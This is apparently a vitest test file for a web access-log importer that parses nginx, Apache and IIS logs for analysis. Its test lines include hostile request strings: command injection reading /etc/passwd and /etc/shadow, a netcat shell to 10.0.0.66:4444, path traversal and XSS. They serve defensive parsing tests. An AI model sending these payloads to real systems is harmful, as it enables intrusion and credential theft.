import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { fixture } from '../testing/corpus.ts';
import { accounted, fileLines, lineFates, rejectReasons, runFile, runText } from '../testing/collecting-sink.ts';
import { isoToUs } from '../util/time.ts';
import { accessLogImporter } from './access-log.ts';
import { detectFormat, detectFormats, makeDetectSample } from './registry.ts';

const path = (name: string): string => fixture(`access-log/${name}`);
const run = (name: string, overrides = {}) => runFile(accessLogImporter, path(name), overrides);

/** Every fixture, with the variant its lines are and how many lines are headers. */
const FIXTURES = [
  { file: 'nginx-combined.log', variant: 'combined', headers: 0 },
  { file: 'nginx-timed.log', variant: 'combined', headers: 0 },
  { file: 'nginx-json.log', variant: 'nginx-json', headers: 0 },
  { file: 'apache-common.log', variant: 'common', headers: 0 },
  { file: 'apache-combined-us.log', variant: 'combined', headers: 0 },
  { file: 'apache-vhost.log', variant: 'vhost_combined', headers: 0 },
  { file: 'iis-w3c.log', variant: 'iis-w3c', headers: 8 },
] as const;

/**
 * "[03/Dec/2026:12:11:05 -0500]" read by JavaScript's own Date (an implementation independent
 * of the importer's), in µs.
 */
function clfTimeByDate(line: string): number {
  const m = /\[(\d{2})\/(\w{3})\/(\d{4}):(\d{2}:\d{2}:\d{2}) ([+-]\d{2})(\d{2})\]/.exec(line);
  if (!m) throw new Error(`no CLF time in ${line}`);
  return Date.parse(`${m[2]} ${m[1]}, ${m[3]} ${m[4]} GMT${m[5]}${m[6]}`) * 1000;
}

describe.each(FIXTURES)('access-log on $file', ({ file, variant, headers }) => {
  const r = run(file);

  it('is detected through the registry, with a clear margin', () => {
    const detection = detectFormat(makeDetectSample(file, readFileSync(path(file))));
    expect(detection.status).toBe('found');
    expect(detection.status === 'found' && detection.importer.format).toBe('access-log');
  });

  it('accounts for every line: one event per request, headers skipped, nothing rejected', () => {
    expect(r.rejects).toEqual([]);
    expect(accounted(r)).toBe(r.lines.length);
    expect(r.skips).toHaveLength(headers);
    expect(r.events).toHaveLength(r.lines.length - headers);
    expect([...lineFates(r).values()].every((f) => f.length === 1)).toBe(true);
    expect(r.events.every((e) => e.fields?.['log_format'] === variant && e.kind === 'network' && e.category === 'network')).toBe(true);
  });

  it('maps status to ret, and to error from 400 up', () => {
    for (const e of r.events) {
      expect(e.ret).toBe(String(e.fields?.['status']));
      expect(e.error).toBe(Number(e.ret) >= 400 ? e.ret : null);
    }
  });
});

describe('access-log: nginx text lines', () => {
  const combined = run('nginx-combined.log');
  const lines = fileLines(path('nginx-combined.log'));

  it('applies each line’s +0100 offset (Europe/Berlin) and ignores --tz', () => {
    combined.events.forEach((e, i) => expect(e.ts_us).toBe(clfTimeByDate(lines[i] ?? '')));
    expect(run('nginx-combined.log', { tz: 'America/Chicago' }).events.map((e) => e.ts_us)).toEqual(combined.events.map((e) => e.ts_us));
  });

  it('reads client, user, referer and user agent, undoing nginx’s \\x22 escapes', () => {
    expect(combined.events[1]).toMatchObject({
      op: 'http.get',
      target: '/index.html',
      fields: { client_ip: '127.0.0.1', referer: 'http://127.0.0.1:18481/', user_agent: 'Mozilla/5.0 (X11; Linux x86_64) HMI-Panel/2.1', bytes: 13, status: 200 },
    });
    expect(lines[7]).toContain('\\x22quoted\\x22');
    expect(combined.events[7]?.fields?.['user_agent']).toBe('sqlmap/1.7 "quoted"');
    expect(combined.events[9]?.fields?.['user']).toBe('operator');
    expect(combined.events[11]?.fields?.['client_ip']).toBe('::1');
    expect(combined.events[8]?.op).toBe('http.post');
    expect(combined.events[2]?.op).toBe('http.head');
  });

  it('decodes the query for reading and keeps the request line as written', () => {
    const encoded = combined.events[4];
    expect(encoded?.target).toBe('/cgi-bin/diag?host=127.0.0.1;cat /etc/passwd');
    expect(encoded?.args).toContain('GET /cgi-bin/diag?host=127.0.0.1%3Bcat%20/etc/passwd HTTP/1.1');
    expect(encoded?.fields).toMatchObject({ path: '/cgi-bin/diag', query: 'host=127.0.0.1%3Bcat%20/etc/passwd', query_decoded: 'host=127.0.0.1;cat /etc/passwd' });
    expect(combined.events[5]?.target).toBe('/../../etc/passwd');
    expect(combined.events[6]?.target).toBe('/search?q=<script>alert(1)</script>');
  });

  it('the $request_time suffix becomes the duration; the requests are those of the combined log', () => {
    const timed = run('nginx-timed.log');
    expect(timed.events.map((e) => e.dur_us)).toEqual(fileLines(path('nginx-timed.log')).map((l) => Math.round(Number(l.split(' ').at(-1)) * 1e6)));
    const same = (e: (typeof timed.events)[number]) => [e.ts_us, e.op, e.target, e.ret, e.fields?.['user_agent']];
    expect(timed.events.map(same)).toEqual(combined.events.map(same));
    expect(combined.events.every((e) => e.dur_us === null)).toBe(true);
  });
});

describe('access-log: nginx JSON', () => {
  const json = run('nginx-json.log');
  const records = fileLines(path('nginx-json.log')).map((l) => JSON.parse(l) as Record<string, string | number>);

  it('times equal time_iso8601 and agree with the combined log of the same requests', () => {
    json.events.forEach((e, i) => expect(e.ts_us).toBe(isoToUs(String(records[i]?.['time_iso8601']))));
    const combined = run('nginx-combined.log');
    const same = (e: (typeof json.events)[number]) => [e.ts_us, e.op, e.target, e.ret, e.error, e.fields?.['client_ip'], e.fields?.['user'], e.fields?.['user_agent'], e.fields?.['referer'], e.fields?.['bytes']];
    expect(json.events.map(same)).toEqual(combined.events.map(same));
  });

  it('takes the host from server_name, the port, and the duration from request_time', () => {
    json.events.forEach((e, i) => {
      expect(e.host).toBe(records[i]?.['server_name']);
      expect(e.fields?.['server_port']).toBe(Number(records[i]?.['server_port']));
      expect(e.dur_us).toBe(Math.round(Number(records[i]?.['request_time']) * 1e6));
    });
  });

  it('falls back to the --host name when the record names no server, and reads time_local or msec', () => {
    const r = runText(
      accessLogImporter,
      [
        '{"time_local":"03/Dec/2026:18:11:04 +0100","remote_addr":"10.0.0.9","request":"GET /a HTTP/1.1","status":"200","body_bytes_sent":"5","server_name":"_"}',
        '{"msec":"1796317864.125","remote_addr":"10.0.0.9","request_method":"GET","request_uri":"/b?x=1","status":404}',
      ].join('\n'),
      { host: 'hmi-dev' },
    );
    expect(r.rejects).toEqual([]);
    expect(r.events.map((e) => [e.host, e.ts_us, e.target])).toEqual([
      ['hmi-dev', isoToUs('2026-12-03T17:11:04Z'), '/a'],
      ['hmi-dev', 1796317864125000, '/b?x=1'],
    ]);
  });

  it('reads an ISO time without an offset in the analyst’s zone', () => {
    const line = '{"time_iso8601":"2026-07-01T12:00:00","remote_addr":"10.0.0.9","request":"GET / HTTP/1.1","status":200}';
    expect(runText(accessLogImporter, line, { tz: 'Europe/Berlin' }).events[0]?.ts_us).toBe(isoToUs('2026-07-01T10:00:00Z'));
  });
});

describe('access-log: Apache', () => {
  it('applies the -0500 offset (America/New_York)', () => {
    const lines = fileLines(path('apache-common.log'));
    run('apache-common.log').events.forEach((e, i) => expect(e.ts_us).toBe(clfTimeByDate(lines[i] ?? '')));
  });

  it('common lines carry no referer or agent; the %D suffix is microseconds; \\" is unescaped', () => {
    const common = run('apache-common.log');
    expect(common.events.some((e) => e.fields?.['user_agent'] !== undefined || e.fields?.['referer'] !== undefined)).toBe(false);
    expect(common.events[2]?.fields?.['bytes']).toBeUndefined(); // "-": no body for HEAD
    const timed = run('apache-combined-us.log');
    const suffixes = fileLines(path('apache-combined-us.log')).map((l) => Number(l.split(' ').at(-1)));
    expect(timed.events.map((e) => e.dur_us)).toEqual(suffixes);
    expect(timed.events[7]?.fields?.['user_agent']).toBe('sqlmap/1.7 "quoted"');
    expect(timed.events[10]).toMatchObject({ ret: '401', error: '401', fields: { user: 'operator' } });
  });

  it('vhost_combined: the virtual host becomes the host, its port a field', () => {
    const vhost = run('apache-vhost.log');
    expect(vhost.events.every((e) => e.host === 'hmi-web' && e.fields?.['vhost'] === 'hmi-web' && e.fields['server_port'] === 80)).toBe(true);
    expect(vhost.events[11]?.fields?.['client_ip']).toBe('::1');
    expect(vhost.events.map((e) => e.target)).toEqual(run('apache-common.log').events.map((e) => e.target));
  });
});

describe('access-log: IIS W3C', () => {
  const iis = run('iis-w3c.log', { tz: 'Europe/Berlin', host: 'from-cli' });
  const lines = fileLines(path('iis-w3c.log'));

  it('reads times as UTC whatever --tz says, and time-taken as milliseconds', () => {
    const rows = lines.filter((l) => !l.startsWith('#'));
    iis.events.forEach((e, i) => {
      const cols = (rows[i] ?? '').split(' ');
      expect(e.ts_us).toBe(isoToUs(`${cols[0]}T${cols[1]}Z`));
      expect(e.dur_us).toBe(Number(cols.at(-1)) * 1000);
    });
  });

  it('follows #Fields: when it changes mid-file', () => {
    const [first, , , , , , second] = iis.events;
    expect(first).toMatchObject({ host: 'from-cli', op: 'http.get', target: '/', fields: { client_ip: '10.10.20.77', user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 's-ip': '10.10.20.5', server_port: 80 } });
    expect(first?.fields?.['query']).toBeUndefined(); // "-" is empty
    expect(second).toMatchObject({
      source_line: 15,
      host: 'HMI-IIS',
      ret: '401',
      error: '401',
      fields: { protocol: 'HTTP/1.1', 's-sitename': 'W3SVC1', 'cs-host': 'hmi-iis', 'sc-substatus': 2, 'sc-win32-status': 5, bytes: 1293, 'cs-bytes': 187 },
    });
    expect(iis.events[7]).toMatchObject({ target: '/scada/report.aspx?file=../../web.config', fields: { user: 'operator', query: 'file=..%2F..%2Fweb.config' } });
    expect(iis.skips).toEqual([1, 2, 3, 4, 11, 12, 13, 14]);
  });

  it('rejects a row whose value count does not fit #Fields:, and a row before any #Fields:', () => {
    const header = lines.slice(0, 4).join('\n');
    const r = runText(accessLogImporter, `${header}\n2026-12-03 16:58:12 10.10.20.5 GET / - 80\n`);
    expect(rejectReasons(r)).toEqual([{ line: 5, reason: '7 values for the 15 fields named by #Fields:' }]);
    const early = runText(accessLogImporter, `${lines.slice(0, 3).join('\n')}\n${lines[4] ?? ''}\n${lines.slice(3).join('\n')}\n`);
    expect(rejectReasons(early)).toEqual([{ line: 4, reason: 'W3C row before any #Fields: directive' }]);
    expect(early.events).toHaveLength(9);
  });
});

describe('access-log: injection patterns are in searched columns', () => {
  it('decoded path and query in target, raw request in args, control characters visible', () => {
    const r = runText(
      accessLogImporter,
      [
        '10.0.0.66 - - [03/Dec/2026:18:00:00 +0000] "GET /cgi-bin/ping?ip=1.2.3.4%0Acat%20/etc/shadow HTTP/1.1" 200 10 "-" "-"',
        '10.0.0.66 - - [03/Dec/2026:18:00:01 +0000] "GET /cgi-bin/ping?ip=$(id)|nc+10.0.0.66+4444 HTTP/1.1" 200 10 "-" "-"',
        '10.0.0.66 - - [03/Dec/2026:18:00:02 +0000] "GET /cgi-bin/ping?ip=%60reboot%60 HTTP/1.1" 200 10 "-" "-"',
        '10.0.0.66 - - [03/Dec/2026:18:00:03 +0000] "GET /static/..%2F..%2Fetc%2Fpasswd HTTP/1.1" 400 10 "-" "-"',
      ].join('\n'),
    );
    expect(r.events.map((e) => e.target)).toEqual([
      '/cgi-bin/ping?ip=1.2.3.4\\ncat /etc/shadow',
      '/cgi-bin/ping?ip=$(id)|nc 10.0.0.66 4444',
      '/cgi-bin/ping?ip=`reboot`',
      '/static/../../etc/passwd',
    ]);
    expect(r.events[0]?.args).toContain('%0Acat');
  });
});

describe('access-log: malformed lines', () => {
  it('rejects each with a reason naming what is wrong, and goes on', () => {
    const good = '127.0.0.1 - - [03/Dec/2026:18:11:04 +0100] "GET / HTTP/1.1" 200 13 "-" "curl/7.88.1"';
    const r = runText(
      accessLogImporter,
      [
        good,
        '127.0.0.1 - - [03/Dec/2026:18:11:04 +0100] "GET / HTTP/1.1" 200', // cut off before the size
        '127.0.0.1 - - [31/Foo/2026:18:11:04 +0100] "GET / HTTP/1.1" 200 13',
        '{"time_local":"03/Dec/2026:18:11:04 +0100","request":"GET / HTTP/1.1"', // cut-off JSON
        '{"remote_addr":"10.0.0.1","request":"GET / HTTP/1.1","status":200}',
        '{"time_iso8601":"yesterday","remote_addr":"10.0.0.1","request":"GET / HTTP/1.1","status":200}',
        '',
        good,
      ].join('\n'),
    );
    expect(r.events.map((e) => e.source_line)).toEqual([1, 8]);
    expect(r.skips).toEqual([7]);
    expect(rejectReasons(r)).toEqual([
      { line: 2, reason: expect.stringMatching(/^not a common\/combined access log line \(expected HOST IDENT USER \[/) },
      { line: 3, reason: 'unreadable time [31/Foo/2026:18:11:04 +0100]' },
      { line: 4, reason: expect.stringMatching(/^not valid JSON/) },
      { line: 5, reason: expect.stringMatching(/^no time field \(msec, time_iso8601, time_local/) },
      { line: 6, reason: 'field "time_iso8601" is not a readable time: yesterday' },
    ]);
    expect(accounted(r)).toBe(r.lines.length);
  });

  it('a request line that is not METHOD URI PROTOCOL (TLS bytes on a plain port) is still a request event', () => {
    const r = runText(accessLogImporter, '10.0.0.66 - - [03/Dec/2026:18:00:00 +0000] "\\x16\\x03\\x01\\x00\\xA5\\x01" 400 157 "-" "-"');
    expect(r.events[0]).toMatchObject({ op: 'http.request', target: null, ret: '400', error: '400' });
    expect(r.events[0]?.args).toMatch(/^\\x16\\x03\\x01/);
  });
});

describe('access-log detection does not steal other formats', () => {
  const sample = (text: string) => makeDetectSample('x.log', new TextEncoder().encode(text));
  const best = (text: string) => detectFormats(sample(text))[0]?.format;

  it('a generic JSON log with status and time stays jsonl', () => {
    const text = Array.from({ length: 5 }, (_, i) => JSON.stringify({ time: `2026-12-03T10:00:0${i}Z`, level: 'info', msg: 'request done', status: 200, path: '/x' })).join('\n');
    expect(best(text)).toBe('jsonl');
    expect(detectFormats(sample(text)).some((c) => c.format === 'access-log')).toBe(false);
  });

  it('syslog lines stay textlog; a W3C firewall log is not a web log', () => {
    expect(best('Dec  3 18:11:04 hmi-dev sshd[812]: Accepted password for root from 10.0.0.5 port 51234 ssh2\n'.repeat(5))).toBe('textlog');
    const firewall = '#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size path\n2026-12-03 10:00:00 DROP TCP 10.0.0.5 10.0.0.1 51234 445 52 RECEIVE\n';
    expect(detectFormats(sample(firewall)).some((c) => c.format === 'access-log')).toBe(false);
  });

  it('judges a sample cut off mid-line by its complete lines', () => {
    const text = readFileSync(path('nginx-combined.log'), 'utf8');
    expect(best(text.slice(0, text.length - 40))).toBe('access-log');
  });
});
